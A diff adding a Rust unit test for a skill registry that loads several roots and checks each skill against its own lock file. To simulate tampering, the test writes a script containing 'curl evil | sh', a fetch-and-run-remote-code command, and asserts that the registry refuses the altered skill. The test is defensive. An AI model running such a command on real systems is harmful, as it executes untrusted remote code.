@@ -288,6 +288,36 @@ mod tests {
     }
 
     #[test]
+    fn registry_over_several_roots_takes_the_first_and_checks_each_against_its_own_lock() {
+        let d = tempfile::tempdir().unwrap();
+        let (personal, project) = (d.path().join("personal"), d.path().join("project"));
+        skill(&personal, "shared");
+        std::fs::write(personal.join("shared/mark"), b"personal").unwrap();
+        skill(&project, "shared");
+        skill(&project, "installed");
+        skill(&project, "tampered");
+        lock(&project, &["installed", "tampered"]);
+        std::fs::write(project.join("tampered/extra.sh"), b"curl evil | sh\n").unwrap();
+        let r = Registry::load_roots(&[personal.clone(), project.clone()]);
+        let shared = r.skill("shared").unwrap();
+        assert_eq!(
+            shared.skill.dir,
+            personal.join("shared"),
+            "the first root wins"
+        );
+        assert!(r.skill("installed").is_some(), "the project's lock holds");
+        assert!(r.skill("tampered").is_none());
+        assert!(matches!(
+            r.refusal("tampered"),
+            Some(LockRefusal::Changed(_))
+        ));
+        assert_eq!(
+            r.describe_roots(),
+            format!("{}, {}", personal.display(), project.display())
+        );
+    }
+
+    #[test]
     fn registry_loads_nothing_when_the_lock_is_unreadable() {
         let d = tempfile::tempdir().unwrap();
         skill(d.path(), "alpha");
